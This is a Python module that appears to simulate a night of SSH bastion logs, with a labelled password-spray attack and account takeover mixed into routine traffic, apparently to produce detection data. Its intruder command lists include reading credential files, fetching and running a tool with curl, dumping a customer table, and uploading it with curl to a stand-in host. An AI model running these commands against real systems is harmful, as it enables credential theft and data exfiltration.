"""`credential-attack`: one password tried on many accounts, slowly and from many places, until one opens.

Seconds count from the start of the log, 22:00:00.
"""

from datetime import datetime
from random import Random

from simulator.bastion import Account, Bastion, Session
from simulator.journal import Journal, arrivals, every, latency, pick, seeded

_START = datetime(2026, 4, 17, 22, 0)  # noqa: DTZ001  syslog states no zone
_SECONDS = 8 * 3600
_SPRAY = (105 * 60.0, 425 * 60.0)
_SPRAY_TRIES = 150
_VICTIM = "t.okafor"
_OPENED = 337 * 60 + 24.0
_RETURNS = ((352 * 60 + 10.0, "tools"), (381 * 60 + 47.0, "tunnel"), (430 * 60 + 5.0, "haul"))

_ROBOT_COMMANDS = {
    "deploy": ("/srv/deploy/bin/pull --env prod", "/srv/deploy/bin/activate --slot blue"),
    "backup": (
        "rsync --server --sender -logDtpre . /var/lib/gitea",
        "rsync --server --sender -logDtpre . /etc",
    ),
    "metrics": ("cat /proc/loadavg", "df -P"),
    "gitmirror": ("git-upload-pack '/srv/git/shop.git'", "git-upload-pack '/srv/git/infra.git'"),
    "reports": ("/opt/reports/nightly.sh --region eu",),
}
_PEOPLE_COMMANDS = (
    "ssh app-{n}.internal",
    "journalctl -u orders --since -10min",
    "tail -n 200 /var/log/deploy.log",
    "kubectl get pods -n shop",
    "htop",
    "ls -la",
    "git -C /srv/infra pull --rebase",
    "psql -h db-ro.internal shop",
    "less /var/log/syslog",
    "df -h",
    "kubectl logs deploy/orders --tail 50",
    "cd /srv/infra && make plan",
)
_INTRUDER = {
    "first": (
        "id",
        "uname -a",
        "cat /etc/passwd",
        "last -n 30",
        "ls -la ~/.ssh",
        "sudo -l",
        "history",
    ),
    "tools": (
        "curl -so /tmp/.x http://192.0.2.66/n.tgz",
        "tar xzf /tmp/.x -C /tmp",
        "/tmp/n/scan 10.20.0.0/16 22,5432",
        "cat ~/.pgpass",
    ),
    "tunnel": (
        "cat ~/.pgpass",
        "psql -h db-ro.internal shop -c '\\dt'",
        "psql -h db-ro.internal shop -c 'select count(*) from customer'",
    ),
    "haul": (
        "pg_dump -h db-ro.internal -t customer shop -f /tmp/.c",
        "gzip /tmp/.c",
        "curl -sT /tmp/.c.gz http://192.0.2.66/u",
        "rm -rf /tmp/.x /tmp/n /tmp/.c.gz",
    ),
}


def simulate(seed: int) -> Journal:
    """Run the bastion for a night."""
    rng = seeded("credential-attack", seed)
    journal = Journal(_START)
    bastion = Bastion(journal, rng)
    starts = [(at, "robot") for at in arrivals(rng, _SECONDS, 0.128, 0.15)]
    starts += [(at, "person") for at in arrivals(rng, _SECONDS, 0.024, 0.4)]
    starts += [(at, "passer-by") for at in arrivals(rng, _SECONDS, 0.004)]
    starts += [(at, "cron") for at in every(rng, _SECONDS, 300, 0.001)]
    starts += [(rng.uniform(*_SPRAY), "spray") for _ in range(_SPRAY_TRIES)]
    starts += [(_OPENED, "first"), *_RETURNS]
    botnet = [_address(rng) for _ in range(64)]
    for at, kind in sorted(starts):
        if kind == "robot":
            _robot(bastion, at)
        elif kind == "person":
            _person(bastion, at)
        elif kind == "passer-by":
            _passer_by(bastion, at)
        elif kind == "cron":
            _cron(bastion, at)
        elif kind == "spray":
            _spray(bastion, at, rng.choice(botnet))
        else:
            _intruder(bastion, at, kind, rng.choice(botnet))
    _daemons(bastion)
    return journal


def _address(rng: Random) -> str:
    """An address from outside, of the ranges that RFC 5737 and RFC 2544 set aside and nobody owns."""
    network = pick(rng, {"192.0.2": 1, "198.51.100": 1, "203.0.113": 1, "198.18": 3, "198.19": 3})
    third = f".{rng.randint(0, 255)}" if network.count(".") == 1 else ""
    return f"{network}{third}.{rng.randint(2, 250)}"


def _robot(bastion: Bastion, at: float) -> None:
    rng = bastion.rng
    account = rng.choice(bastion.robots)
    session = Session(bastion, at, account, account.home)
    session.connect(account.client)
    session.offer_key(known=True)
    session.open(terminal=False)
    for command in _ROBOT_COMMANDS[account.name]:
        session.run(command, 0.8)
        if rng.random() < 0.01:
            session.say(
                f"{session.number} waits for its peer to read, {rng.randint(64, 900)} KiB queued", 900
            )
    session.close(2.0)


def _person(bastion: Bastion, at: float) -> None:
    rng = bastion.rng
    account = rng.choice(bastion.people)
    peer = _address(rng) if rng.random() < 0.3 else account.home
    session = Session(bastion, at, account, peer)
    session.connect(account.client)
    if rng.random() < 0.72:
        session.offer_key(known=True)
    else:
        # From a machine without the key on it: the password, sometimes mistyped, sometimes forgotten.
        session.offer_key(known=False)
        mistyped = rng.choices((0, 1, 2, 3), weights=(80, 14, 3.5, 2.5))[0]
        for _ in range(mistyped):
            session.password(right=False)
        if mistyped == 3:
            session.say(f"3 tries used up, {account.name} has to wait 600 s", 5)
            session.gone()
            return
        if mistyped and rng.random() < 0.12:
            session.gone(20_000)
            return
        session.password(right=True)
    session.second_factor()
    if rng.random() < 0.03:
        session.say(f"password of {account.name} runs out in {rng.randint(1, 14)} days", 5)
    session.open(terminal=True)
    _work(session)


def _work(session: Session) -> None:
    rng = session.rng
    if rng.random() < 0.06:
        session.say(
            f"{session.number} forwards 127.0.0.1:{rng.randint(10000, 20000)} to grafana.internal:3000", 3000
        )
    for _ in range(rng.randint(0, 9)):
        session.run(rng.choice(_PEOPLE_COMMANDS).format(n=rng.randint(1, 12)), 45)
    luck = rng.random()
    if luck < 0.06:
        session.say(f"{session.number} idle for 900 s, ended", 900_000)
        session.gone()
    elif luck < 0.09:
        session.say(f"{session.number} lost, no answer to 3 probes", 90_000)
    else:
        session.close(60.0)


def _passer_by(bastion: Bastion, at: float) -> None:
    """The internet at large: connects, looks, leaves."""
    rng = bastion.rng
    peer = _address(rng)
    session = Session(bastion, at, bastion.people[0], peer)
    session.say(f"peer {peer} port {rng.randint(32768, 60999)} connected, lane {rng.randint(1, 8)}", 2)
    if rng.random() < 0.6:
        session.say(f"peer speaks something else, first bytes {rng.getrandbits(48):012x}", 400)
    session.gone(3000)


def _spray(bastion: Bastion, at: float, peer: str) -> None:
    """One password on one account, then away: nothing that would lock it."""
    rng = bastion.rng
    account = rng.choice(bastion.people)
    if rng.random() < 0.25:
        account = Account(rng.choice(("admin", "postgres", "jenkins", "git", "ubuntu")), "", "", "")
    session = Session(bastion, at, account, peer)
    session.connect(rng.choice(("OpenSSH_8.9p1", "PuTTY_0.80", "OpenSSH_9.6")))
    session.password(right=False, pause_ms=350)
    session.gone(120)
    bastion.journal.causes[str(session.pid)] = "password-spray"


def _intruder(bastion: Bastion, at: float, visit: str, peer: str) -> None:
    """The account that the spray opened, and what it was used for."""
    account = next(person for person in bastion.people if person.name == _VICTIM)
    session = Session(bastion, at, account, peer)
    session.connect("OpenSSH_8.9p1")
    if visit == "first":
        session.password(right=False, pause_ms=350)
    session.password(right=True, pause_ms=900)
    session.say(f"second factor of {_VICTIM} not set up yet, 14 days left", 10)
    session.open(terminal=True)
    if visit == "tunnel":
        session.say(f"{session.number} forwards 127.0.0.1:15432 to db-ro.internal:5432", 4000)
    for command in _INTRUDER[visit]:
        session.run(command, 14)
    session.close(20.0)
    bastion.journal.causes[str(session.pid)] = "account-takeover"


def _cron(bastion: Bastion, at: float) -> None:
    rng = bastion.rng
    pid = bastion.next_pid()
    job = rng.choice(
        ("/usr/lib/sysstat/sa1 1 1", "/usr/local/sbin/rotate-audit", "/usr/local/sbin/sync-keys")
    )
    bastion.log(at, "crond", pid, f"(root) starts {job}")
    bastion.log(at + latency(rng, 1500), "crond", pid, f"(root) {job} ended with 0")


def _daemons(bastion: Bastion) -> None:
    """Long-lived processes and the kernel."""
    rng = bastion.rng
    for at in every(rng, _SECONDS, 64):
        bastion.log(
            at,
            "timewatch",
            811,
            f"offset {rng.uniform(-2, 2):+.3f} ms against ntp{rng.randint(1, 3)}.internal, poll 64 s",
        )
    for at in every(rng, _SECONDS, 120):
        bastion.log(
            at,
            "gatewarden",
            902,
            f"{rng.randint(2, 19)} sessions, {rng.randint(0, 2)} before sign-in, {rng.randint(20, 60)} MiB",
        )
    for at in every(rng, _SECONDS, 410, 0.5):
        bastion.log(
            at,
            "kernel",
            None,
            f"packet filter: dropped tcp {_address(rng)} to port {rng.choice((23, 445, 3389, 5900))}",
        )
    for at, message in (
        (2 * 3600 + 301.0, "rules read again, 118 accounts, 204 keys"),
        (5 * 3600 + 12.0, "audit file reached 64 MiB, started a new one"),
        (6 * 3600 + 304.0, "rules read again, 118 accounts, 205 keys"),
    ):
        bastion.log(at, "gatewarden", 902, message)
